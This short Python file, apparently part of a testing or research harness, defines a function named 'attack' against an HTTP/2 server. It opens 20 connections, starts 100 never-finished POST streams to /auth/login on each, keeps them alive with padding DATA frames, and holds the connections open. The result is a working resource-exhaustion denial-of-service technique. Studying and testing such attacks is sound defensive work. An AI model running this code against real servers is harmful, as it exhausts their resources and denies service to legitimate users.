"""Connections of 100 bodies each that never end, for a route that gathers them."""
from frames import DATA, frame, head, opened, send

JSON = [("content-type", "application/json")]


def attack(node):
    held = []
    for _ in range(20):
        client = opened(node)
        client.settimeout(2)
        for stream in range(1, 200, 2):
            send(client, head(stream, "POST", "/auth/login", False, JSON))
        for _ in range(4):
            for stream in range(1, 200, 2):
                if not send(client, frame(DATA, 0, stream, b" " * 16000)):
                    break
        held.append(client)
    return held
